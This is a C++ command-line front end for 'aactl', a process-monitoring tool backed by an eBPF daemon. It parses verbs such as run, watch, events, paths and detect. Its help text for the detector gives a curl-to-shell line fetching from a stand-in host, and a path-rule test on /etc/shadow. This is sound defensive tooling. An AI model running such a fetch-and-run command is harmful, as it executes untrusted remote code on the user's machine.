// cli/main.cpp: arguments in, a verb's exit status out.
#include <time.h>

#include <CLI/CLI.hpp>
#include <exception>
#include <functional>
#include <string>
#include <vector>

#include "base/text.h"
#include "past.h"
#include "verbs.h"

namespace {

using aa::Failure;

constexpr const char* kAbout =
    "aactl: watch what a program and everything it starts does.\n"
    "It asks the daemon aa-ebpfd, over D-Bus; most of it needs root.";

constexpr const char* kExamples =
    "Examples:\n"
    "  sudo aactl run -- make -j4           run a command watched from its first instruction\n"
    "  sudo aactl watch 4242 --name agent   watch a running process and all its descendants\n"
    "  sudo aactl unwatch agent             stop watching it\n"
    "  sudo aactl targets                   what is being watched\n"
    "  sudo aactl events --type exec,exit   follow events; piped, they are JSON Lines\n"
    "  sudo aactl tree                      who started whom, ended processes included\n"
    "  sudo aactl ancestry 4300             how a process came to be, from pid 1 down\n"
    "  sudo aactl paths                     which paths are nobody's business\n"
    "  sudo aactl detect -- sh -c 'curl x'  what the detector would say of a command line\n"
    "  sudo aactl status                    is the observer well, and what did it miss\n"
    "  sudo aactl reload                    read the configuration again\n"
    "  sudo aactl explain 4300              why a process is, or is not, seen\n"
    "  sudo aactl stats                     the numbers alone\n"
    "  sudo aactl doctor                    what this machine allows, and what to change\n"
    "\n"
    "Exit status: 0 done, 1 refused, 2 wrong usage, 3 daemon not reachable;\n"
    "`run` passes on the command's own (127 not found, 126 cannot be run, 128+N killed by signal N).";

// The bus carries nothing else.
const CLI::Validator kUtf8(
    [](std::string& text) { return aa::is_utf8(text) ? std::string() : std::string("is not UTF-8"); }, "", "");

const CLI::Validator kTime(
    [](std::string& text) {
      if (!aa::since_text(text, ::time(nullptr)).empty()) return std::string();
      return "takes 10m, 2h, 3d, @SECONDS or 2026-11-22 [13:00[:01]], not '" + text + "'";
    },
    "", "");

struct Arguments {
  aa::Globals globals;
  aa::RunOptions run;
  aa::WatchOptions watch;
  std::string name;
  std::string tls;
  std::vector<std::string> unwatch;
  std::vector<std::string> paths_words;  // "set" FILE, "test" PATH
  aa::EventsOptions events;
  std::string tree;
  std::uint32_t ancestry = 0;
  std::uint32_t explain = 0;
};

using Verb = std::function<int()>;

// What follows a command line's first "--" is the command of `run`, whatever it looks like.
std::vector<std::string> split_command(int argc, char** argv, bool& dashes, std::vector<std::string>& command) {
  std::vector<std::string> own;
  for (int i = 1; i < argc; ++i) {
    const std::string argument = argv[i];
    if (!dashes && argument == "--") {
      dashes = true;
    } else {
      (dashes ? command : own).push_back(argument);
    }
  }
  return own;
}

void add_run(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* sub =
      app.add_subcommand("run", "Run a command watched from its first instruction, as the user who called sudo");
  sub->add_option("--name", in.run.name, "What to call the target (default: the command's name)")
      ->check(kUtf8)
      ->type_name("NAME");
  sub->add_flag("--as-root", in.run.as_root, "Run the command as root, not as the user who called sudo");
  sub->add_option("--output", in.run.output, "Write the account to FILE, leaving the terminal to the command")
      ->type_name("FILE");
  sub->add_flag("--verbose", in.run.verbose, "Also show attempts to run a program that failed");
  sub->footer(
      "The command follows --, as in: aactl run [OPTIONS] -- COMMAND [ARGUMENT...]\n"
      "Example: sudo aactl run --name build -- make -j4");
  sub->callback([&in, &verb] { verb = [&in] { return aa::run(in.globals, in.run); }; });
}

void add_targets(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* watch = app.add_subcommand("watch", "Watch running processes and all their descendants");
  auto* pids = watch->add_option("PID", in.watch.pids, "Processes to watch");
  watch->add_option("--unit", in.watch.unit, "Watch every process of a systemd unit, also when it is started again")
      ->excludes(pids)
      ->type_name("UNIT");
  watch->add_option("--name", in.name, "What to call the target (default: the program's or the unit's name)")
      ->check(kUtf8)
      ->type_name("NAME");
  watch->add_option("--tls", in.tls, "How much of TLS traffic to record: off, metadata, redacted or full")
      ->type_name("LEVEL");
  watch->footer("Example: sudo aactl watch 4242 --name agent");
  watch->callback([&in, &verb] {
    if (in.watch.pids.empty() && in.watch.unit.empty()) throw CLI::RequiredError("PID or --unit");
    if (!in.name.empty()) in.watch.options.emplace("name", in.name);
    if (!in.tls.empty()) in.watch.options.emplace("tls", in.tls);
    verb = [&in] { return aa::watch(in.globals, in.watch); };
  });

  CLI::App* unwatch = app.add_subcommand("unwatch", "Stop watching targets");
  unwatch->add_option("TARGET", in.unwatch, "Target id, name, or pid of its root process")->required();
  unwatch->footer("Example: sudo aactl unwatch agent");
  unwatch->callback([&in, &verb] { verb = [&in] { return aa::unwatch(in.globals, in.unwatch); }; });

  CLI::App* targets = app.add_subcommand("targets", "List what is being watched");
  targets->footer("Example: sudo aactl targets --json");
  targets->callback([&in, &verb] { verb = [&in] { return aa::targets(in.globals); }; });
}

void add_events(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* sub = app.add_subcommand("events", "Follow events: pretty on a terminal, JSON Lines when piped");
  sub->add_flag("-f,--follow", in.events.follow, "Follow until interrupted (what it does anyway without --since)");
  sub->add_option("--since", in.events.since, "First the events since then, as in 10m or '2026-11-22 13:00'")
      ->check(kTime)
      ->type_name("TIME");
  sub->add_option("--type", in.events.filter.types, "Only these types, as in exec,exit")
      ->delimiter(',')
      ->type_name("TYPES");
  sub->add_option("--target", in.events.filter.target, "Only this target: id, name, or pid of its root process")
      ->type_name("TARGET");
  sub->add_option("--severity", in.events.filter.severity, "Leave out alerts below info, warning or critical")
      ->type_name("SEVERITY");
  sub->footer("Example: sudo aactl events --type exec,exit --target agent");
  sub->callback([&in, &verb] { verb = [&in] { return aa::events(in.globals, in.events); }; });
}

void add_lineage(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* tree = app.add_subcommand("tree", "Draw who started whom, ended processes included");
  tree->add_option("PID|TARGET", in.tree, "A process, or a target's id or name (default: all running targets)");
  tree->footer("Example: sudo aactl tree agent");
  tree->callback([&in, &verb] { verb = [&in] { return aa::tree(in.globals, in.tree); }; });

  CLI::App* ancestry = app.add_subcommand("ancestry", "Show how a process came to be, from pid 1 down to it");
  ancestry->add_option("PID", in.ancestry, "The process")->required();
  ancestry->footer("Example: sudo aactl ancestry 4300");
  ancestry->callback([&in, &verb] { verb = [&in] { return aa::ancestry(in.globals, in.ancestry); }; });
}

void add_paths(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* sub = app.add_subcommand("paths", "Show, replace or try the rules about paths");
  sub->add_option("WHAT", in.paths_words,
                  "set FILE: replace the running layer by the rules in FILE (- standard input); test PATH: say which "
                  "rule would decide about PATH, touching nothing")
      ->type_name("[set FILE | test PATH]");
  sub->footer("Example: sudo aactl paths test /etc/shadow");
  sub->callback([&in, &verb] {
    const std::string word = in.paths_words.empty() ? "" : in.paths_words.front();
    if (!word.empty() && (in.paths_words.size() != 2 || (word != "set" && word != "test")))
      throw CLI::ValidationError("paths", "takes nothing, set FILE or test PATH");
    verb = [&in, word] {
      if (word == "set") return aa::paths_set(in.globals, in.paths_words.back());
      if (word == "test") return aa::paths_test(in.globals, in.paths_words.back());
      return aa::paths(in.globals);
    };
  });
}

void add_detect(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* sub = app.add_subcommand("detect", "Say what the detector makes of a command line, without running it");
  sub->footer(
      "The command follows --, as in: aactl detect -- COMMAND [ARGUMENT...]\n"
      "Example: sudo aactl detect -- sh -c 'curl https://x.example | sh'");
  sub->callback([&in, &verb] { verb = [&in] { return aa::detect(in.globals, in.run.command); }; });
}

void add_health(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* explain = app.add_subcommand("explain", "Say why a process is or is not observed");
  explain->add_option("PID", in.explain, "The process")->required();
  explain->footer("Example: sudo aactl explain 4300");
  explain->callback([&in, &verb] { verb = [&in] { return aa::explain(in.globals, in.explain); }; });

  CLI::App* stats = app.add_subcommand("stats", "Show counters and losses, in numbers only");
  stats->footer("Example: sudo aactl stats --json");
  stats->callback([&in, &verb] { verb = [&in] { return aa::stats(in.globals); }; });

  CLI::App* doctor =
      app.add_subcommand("doctor", "Try what this kernel and these privileges allow, and say what to change");
  doctor->footer("Example: sudo aactl doctor");
  doctor->callback([&in, &verb] { verb = [&in] { return aa::doctor(in.globals); }; });
}

void add_status(CLI::App& app, Arguments& in, Verb& verb) {
  CLI::App* sub = app.add_subcommand("status", "Show version, probes, counters, losses and targets");
  sub->footer("Example: sudo aactl status");
  sub->callback([&in, &verb] { verb = [&in] { return aa::status(in.globals); }; });

  CLI::App* reload = app.add_subcommand("reload", "Have the daemon read its configuration again, as systemctl reload");
  reload->footer("Example: sudo aactl reload");
  reload->callback([&in, &verb] { verb = [&in] { return aa::reload(in.globals); }; });
}

void add_globals(CLI::App& app, Arguments& in) {
  app.set_version_flag("--version", std::string("aactl ") + AA_VERSION, "Print the version and exit");
  app.set_help_flag("-h,--help", "Print this help and exit");
  app.add_option("--bus", in.globals.bus, "D-Bus address of the daemon's bus (default: the system bus)")
      ->type_name("ADDRESS");
  app.add_flag("--json", in.globals.json, "Print JSON, one object a line");
  app.add_option("--color", in.globals.color, "Colours: auto, always or never")
      ->check(CLI::IsMember({"auto", "always", "never"}))
      ->type_name("WHEN");
  app.require_subcommand(1);
  app.fallthrough();
  app.footer(kExamples);
}

int usage_error(const std::string& sentence) {
  aa::complain(sentence + "; see aactl --help");
  return aa::kUsage;
}

int main_checked(int argc, char** argv) {
  Arguments in;
  Verb verb;
  CLI::App app(kAbout, "aactl");
  add_globals(app, in);
  add_run(app, in, verb);
  add_targets(app, in, verb);
  add_events(app, in, verb);
  add_lineage(app, in, verb);
  add_paths(app, in, verb);
  add_detect(app, in, verb);
  add_status(app, in, verb);
  add_health(app, in, verb);

  bool dashes = false;
  std::vector<std::string> own = split_command(argc, argv, dashes, in.run.command);
  if (own.empty()) return usage_error("say what to do, as in: aactl run -- COMMAND");
  std::vector<std::string> reversed(own.rbegin(), own.rend());  // as CLI11 wants them
  try {
    app.parse(reversed);
  } catch (const CLI::ParseError& error) {
    if (error.get_exit_code() == 0) return app.exit(error);
    if (app.get_subcommands().empty() && own.front().front() != '-') return usage_error("unknown verb: " + own.front());
    for (const char* name : {"run", "detect"}) {
      if (app.got_subcommand(name) && !dashes)
        return usage_error("put -- before the command: aactl " + std::string(name) + " -- COMMAND");
    }
    return usage_error(error.what());
  }
  const bool detects = app.got_subcommand("detect");
  const bool wants_command = detects || app.got_subcommand("run");
  if (wants_command && in.run.command.empty())
    return usage_error("no command " + std::string(detects ? "to look at: aactl detect" : "to run: aactl run") +
                       " -- COMMAND");
  if (!wants_command && dashes) return usage_error("only run and detect take a command after --");
  return verb();
}

}  // namespace

int main(int argc, char** argv) {
  try {
    return main_checked(argc, argv);
  } catch (const Failure& failure) {
    aa::complain(failure.what());
    return failure.status;
  } catch (const std::exception& error) {
    aa::complain(std::string("unexpected: ") + error.what());
    return aa::kRefused;
  }
}
